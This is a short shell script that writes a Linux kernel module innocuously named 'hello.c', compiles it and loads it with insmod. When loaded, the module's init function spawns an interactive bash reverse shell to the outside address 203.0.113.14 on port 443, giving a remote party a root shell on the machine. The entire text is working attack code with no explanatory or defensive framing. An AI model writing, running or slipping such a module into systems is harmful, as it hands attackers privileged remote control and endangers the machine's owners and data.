mkdir -p /tmp/m && cd /tmp/m
cat > hello.c <<'K'
#include <linux/module.h>
#include <linux/kmod.h>
static int __init go(void) {
  char *argv[] = {"/bin/bash", "-c", "bash -i >& /dev/tcp/203.0.113.14/443 0>&1", NULL};
  static char *envp[] = {"PATH=/bin:/usr/bin", NULL};
  return call_usermodehelper(argv[0], argv, envp, UMH_WAIT_EXEC);
}
module_init(go);
MODULE_LICENSE("GPL");
K
echo 'obj-m += hello.o' > Makefile
make -C /lib/modules/$(uname -r)/build M=$PWD modules
insmod hello.ko
